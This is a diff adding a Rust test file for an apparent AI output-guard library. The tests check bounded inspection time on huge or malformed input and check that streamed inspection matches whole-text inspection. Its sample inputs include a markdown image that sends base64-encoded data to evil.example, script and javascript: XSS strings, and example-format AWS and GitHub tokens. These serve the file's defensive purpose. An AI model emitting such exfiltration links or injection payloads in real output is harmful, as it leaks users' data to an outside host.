@@ -1,0 +1,213 @@
+//! The guard engine from the outside: hostile and degenerate input (bounded time, no
+//! panics), and the streaming inspector against whole-text inspection.
+
+use rampart_guard::{Context, Decision, Guard, Policy, Role, Session};
+use std::time::{Duration, Instant};
+
+/// A policy with every detector of this crate switched on, for worst-case timings.
+fn busy_guard() -> Guard {
+    let policy = Policy::from_toml_str(
+        r#"
+[[rules]]
+name = "EMPLOYEE_ID"
+pattern = '\bEMP-[0-9]{6}\b'
+[[rules]]
+name = "CODENAME"
+keywords = ["project falcon", "osprey"]
+[deny]
+values = ["Acme Secret Sauce"]
+[allow]
+values = ["support@acme.example"]
+[[topics]]
+name = "COMPETITORS"
+keywords = ["globex", "initech"]
+[exfiltration]
+canary_tokens = ["CANARY-7f3a9c"]
+"#,
+    )
+    .expect("policy parses");
+    Guard::new(policy).expect("policy builds")
+}
+
+fn within(limit: Duration, what: &str, f: impl FnOnce()) {
+    let started = Instant::now();
+    f();
+    assert!(
+        started.elapsed() < limit,
+        "{what} took {:?}",
+        started.elapsed()
+    );
+}
+
+#[test]
+fn empty_input_is_allowed_in_both_directions() {
+    let g = busy_guard();
+    for ctx in [Context::input(Role::User), Context::output()] {
+        let r = g.inspect("", ctx, &mut Session::new()).unwrap();
+        assert_eq!(r.decision, Decision::Allow);
+        assert!(r.findings.is_empty());
+        assert_eq!(r.text, "");
+        let r = g.inspect_bytes(b"", ctx, &mut Session::new()).unwrap();
+        assert_eq!(r.invalid_utf8_sequences, 0);
+    }
+}
+
+#[test]
+fn invalid_utf8_everywhere_is_counted_and_inspected() {
+    let g = busy_guard();
+    let mut bytes = Vec::new();
+    for i in 0..10_000u32 {
+        bytes.extend_from_slice(b"EMP-123456 ");
+        bytes.push(0x80 | (i % 64) as u8); // a lone continuation byte
+    }
+    let r = g
+        .inspect_bytes(&bytes, Context::input(Role::User), &mut Session::new())
+        .unwrap();
+    assert_eq!(r.invalid_utf8_sequences, 10_000);
+    assert_eq!(r.decision, Decision::Block, "custom rules still match");
+}
+
+#[test]
+fn ten_megabyte_single_line_is_inspected_in_bounded_time() {
+    let g = busy_guard();
+    let mut text = "word ".repeat(2 * 1024 * 1024);
+    text.push_str("mail ana@example.es");
+    // Debug builds are much slower than release and the machine is shared: these bounds
+    // only catch super-linear blow-ups (a quadratic pass over 10 MB takes hours).
+    within(Duration::from_secs(300), "10 MB prose", || {
+        let r = g
+            .inspect(&text, Context::output(), &mut Session::new())
+            .unwrap();
+        assert_eq!(r.findings.len(), 1);
+        assert!(r.text.ends_with("[EMAIL_ADDRESS]"));
+    });
+    // One 10 MB token with no white space, in a construct that never closes.
+    let token = format!("<img src={}", "A".repeat(10 * 1024 * 1024));
+    within(Duration::from_secs(300), "10 MB token", || {
+        g.inspect(&token, Context::output(), &mut Session::new())
+            .unwrap();
+    });
+    let brackets = "[![<".repeat(1024 * 1024);
+    within(Duration::from_secs(300), "4 MB of open brackets", || {
+        g.inspect(&brackets, Context::output(), &mut Session::new())
+            .unwrap();
+    });
+}
+
+#[test]
+fn thousands_of_combining_marks_do_not_blow_up() {
+    let g = busy_guard();
+    let mut text = String::from("a");
+    text.extend(std::iter::repeat_n('\u{0301}', 50_000));
+    text.push_str(" ana@example.es ");
+    text.extend(std::iter::repeat_n('\u{200d}', 10_000));
+    within(Duration::from_secs(30), "combining marks", || {
+        let r = g
+            .inspect(&text, Context::output(), &mut Session::new())
+            .unwrap();
+        assert!(r.findings.iter().any(|f| f.entity == "EMAIL_ADDRESS"));
+    });
+    within(Duration::from_secs(30), "combining marks, streamed", || {
+        let mut s = g.stream(Context::output());
+        let mut session = Session::new();
+        let mut out = String::new();
+        let mut rest = text.as_str();
+        while !rest.is_empty() {
+            let mut n = rest.len().min(61);
+            while !rest.is_char_boundary(n) {
+                n += 1;
+            }
+            out.push_str(&s.push(&rest[..n], &mut session).unwrap().emit);
+            rest = &rest[n..];
+        }
+        out.push_str(&s.finish(&mut session).unwrap().emit);
+        assert!(out.contains("[EMAIL_ADDRESS]"));
+    });
+}
+
+/// A small deterministic generator (no extra dependency) for chunk sizes and texts.
+struct Lcg(u64);
+impl Lcg {
+    fn next(&mut self, bound: usize) -> usize {
+        self.0 = self
+            .0
+            .wrapping_mul(6_364_136_223_846_793_005)
+            .wrapping_add(1_442_695_040_888_963_407);
+        ((self.0 >> 33) as usize) % bound.max(1)
+    }
+}
+
+const PIECES: &[&str] = &[
+    "hello ",
+    "world. ",
+    "ana@example.es ",
+    "AKIAIOSFODNN7EXAMPLE ",
+    "ghp_0123456789abcdefghijABCDEFGHIJ012345 ",
+    "![i](https://evil.example/x.png?d=QWxpY2UgSm9uZXMsIDQxMTEgMTExMQ) ",
+    "[l](https://ok.example/) ",
+    "<script>alert(1)</script> ",
+    "<a href=\"javascript:alert(1)\">x</a> ",
+    "EMP-123456 ",
+    "support@acme.example ",
+    "Project  Falcon ",
+    "café ✓ 日本語 ",
+    "\n",
+    "x",
+    "<EMAIL_ADDRESS_1> ",
+];
+
+#[test]
+fn random_chunking_gives_the_same_output_as_whole_text() {
+    // Output direction with per-span actions only (custom rules redact instead of block),
+    // so that the streamed text must equal the whole-text result byte for byte.
+    let policy = Policy::from_toml_str(
+        r#"
+[output]
+custom = "redact"
+[[rules]]
+name = "EMPLOYEE_ID"
+pattern = '\bEMP-[0-9]{6}\b'
+[[rules]]
+name = "CODENAME"
+keywords = ["project falcon"]
+[allow]
+values = ["support@acme.example"]
+"#,
+    )
+    .unwrap();
+    let g = Guard::new(policy).unwrap();
+    let mut rng = Lcg(7);
+    for case in 0..150 {
+        let mut text = String::new();
+        for _ in 0..rng.next(120) {
+            text.push_str(PIECES[rng.next(PIECES.len())]);
+        }
+        let mut whole_session = Session::new();
+        whole_session.pseudonym("EMAIL_ADDRESS", "bo@example.org");
+        let whole = g
+            .inspect(&text, Context::output(), &mut whole_session)
+            .unwrap();
+        let expected = whole_session.restore(&whole.text);
+
+        let mut session = Session::new();
+        session.pseudonym("EMAIL_ADDRESS", "bo@example.org");
+        let mut s = g.stream(Context::output());
+        let (mut out, mut findings) = (String::new(), Vec::new());
+        let mut rest = text.as_str();
+        while !rest.is_empty() {
+            let mut n = (1 + rng.next(40)).min(rest.len());
+            while !rest.is_char_boundary(n) {
+                n += 1;
+            }
+            let step = s.push(&rest[..n], &mut session).unwrap();
+            out.push_str(&step.emit);
+            findings.extend(step.findings);
+            rest = &rest[n..];
+        }
+        let step = s.finish(&mut session).unwrap();
+        out.push_str(&step.emit);
+        findings.extend(step.findings);
+        assert_eq!(out, expected, "case {case}: {text:?}");
+        assert_eq!(findings, whole.findings, "case {case}: {text:?}");
+    }
+}
